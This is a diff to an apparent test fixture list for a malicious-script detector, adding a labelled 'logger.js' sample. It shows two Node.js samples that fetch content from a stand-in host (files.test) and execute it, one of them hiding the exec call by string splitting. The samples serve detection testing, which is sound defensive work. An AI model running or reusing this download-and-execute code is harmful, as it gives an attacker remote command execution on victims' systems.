@@ -73,6 +73,12 @@ export const servers: readonly Suspect[] = [
     'setInterval(()=>{require("http").get("http://files.test/task",r=>{let d="";r.on("data",x=>d+=x);r.on("end",()=>{require("child_process").exec(d,()=>{})})})},5000)',
   ),
   text(
+    'logger.js',
+    'malicious',
+    ['script_runs_answer'],
+    'const cp=require("child_process");const axios=require("axios");(async()=>{try{await axios.get("https://files.test/j")}catch(err){cp["ex"+"ec"](err.response.data.cookie)}})()',
+  ),
+  text(
     'shifted.vbs',
     'suspicious',
     ['script_conceals_itself'],
